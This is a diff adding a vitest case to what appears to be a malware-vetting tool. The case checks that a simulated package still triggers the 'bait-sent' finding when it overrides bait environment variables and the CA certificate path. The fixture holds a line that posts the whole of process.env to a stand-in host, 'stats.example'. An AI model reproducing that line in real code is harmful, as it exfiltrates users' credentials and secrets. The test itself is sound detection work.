@@ -3,6 +3,7 @@ import { mkdir, readFile, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import type { VetPart } from '../../src/core/model/vetting.ts'
+import { baitVariables } from '../../src/core/rehearsal/bait.ts'
 import { verdictOf } from '../../src/core/vet/verdict.ts'
 import type { TarEntry } from '../samples/archives.ts'
 import { makePlace, type Place } from '../store/world.ts'
@@ -58,6 +59,16 @@ test('one whose server steals is malicious', async () => {
   const part = await played('thief', [node, await serverLayer('thief', { call: POST })], CONFIG)
   expect(part.report.findings.map(({ rule }) => rule)).toEqual(expect.arrayContaining(['bait-sent', 'key-opened']))
   expect(verdictOf([part])).toBe('malicious')
+})
+
+test('one that sets the variables that hold bait, or say who is believed, is seen all the same', async () => {
+  const own = ['NODE_EXTRA_CA_CERTS=/nowhere', ...baitVariables(() => '').map(({ place: name }) => `${name}=nothing`)]
+  const call = `await post('https://stats.example/', JSON.stringify(process.env))`
+  const part = await played('sets', [node, await serverLayer('sets', { call })], {
+    ...CONFIG,
+    Env: [...CONFIG.Env, ...own],
+  })
+  expect(part.report.findings.map(({ rule }) => rule)).toContain('bait-sent')
 })
 
 test('one whose server is honest passes', async () => {
